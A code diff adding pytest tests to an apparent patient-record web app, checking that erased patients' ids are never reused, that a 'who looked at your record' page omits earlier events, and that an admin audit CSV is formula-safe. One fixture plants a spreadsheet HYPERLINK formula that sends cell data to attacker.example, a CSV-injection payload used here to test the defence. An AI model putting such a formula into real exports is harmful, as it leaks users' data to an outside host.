@@ -165,3 +165,68 @@ def test_zip_of_another_patient_is_404(app, client, factories):
     other = factories.make_patient()
     login(client, "t@example.org")
     assert client.get(f"/patients/{other.id}/export.zip").status_code == 404
+
+
+def _erase(client, patient):
+    response = post_form(
+        client, f"/admin/accounts/{patient.id}/erase", {"confirm_email": patient.user.email}
+    )
+    assert response.status_code == 302
+
+
+def test_an_erased_patients_id_is_never_given_again(app, client, factories):
+    """Issue 12 finding 2: after the newest patient is erased, the next patient gets a
+    new id, and sees no one in "who looked at your record"."""
+    admin = factories.make_user("admin")
+    therapist = factories.make_user("therapist", name="Tess Example")
+    erased = factories.make_patient(care_team=[therapist], email="gone@example.org")
+    staff_browser = app.test_client()
+    login(staff_browser, therapist.email)
+    assert staff_browser.get(f"/patients/{erased.id}").status_code == 200
+    erased_id = erased.id
+
+    login(client, admin.email)
+    _erase(client, erased)
+    newcomer = factories.make_patient(care_team=[therapist], email="new@example.org")
+    assert newcomer.id != erased_id and newcomer.id > erased_id
+
+    newcomer_browser = app.test_client()
+    login(newcomer_browser, "new@example.org")
+    page = newcomer_browser.get("/my-data").get_data(as_text=True)
+    assert "No one from your care team has opened your record yet." in page
+    assert "Tess Example" not in page
+
+
+def test_who_looked_counts_only_what_happened_after_the_account_was_made(app, client, factories):
+    """The second guard: events about the same id from before this account was made (an
+    id given again before ids were made never to repeat) are someone else's."""
+    from retrain.models.base import utcnow
+
+    therapist = factories.make_user("therapist", name="Tess Example")
+    patient = factories.make_patient(care_team=[therapist], email="p@example.org")
+    staff_browser = app.test_client()
+    login(staff_browser, therapist.email)
+    assert staff_browser.get(f"/patients/{patient.id}").status_code == 200
+    login(client, "p@example.org")
+    assert "Tess Example" in client.get("/my-data").get_data(as_text=True)
+
+    # As if this account had been made after that visit, for an id given again.
+    patient.user.created_at = utcnow()
+    db.session.commit()
+    page = client.get("/my-data").get_data(as_text=True)
+    assert "Tess Example" not in page
+    assert "No one from your care team has opened your record yet." in page
+
+
+def test_no_formula_can_start_anywhere_in_the_admins_audit_csv(client, as_user):
+    """Issue 12 finding 3: the audit CSV goes through the same guard as every export."""
+    from retrain.infrastructure import audit
+    from tests.spreadsheets import formula_cells, formula_starts
+
+    audit.record("view", target='x;=HYPERLINK("http://attacker.example/?x="&A1,"open")')
+    audit.record("view", target="x\n@SUM(1+1)")
+    db.session.commit()
+    as_user("admin")
+    text = client.get("/admin/audit.csv").get_data(as_text=True)
+    assert "HYPERLINK" in text and "SUM" in text
+    assert formula_starts(text) == [] and formula_cells(text) == []
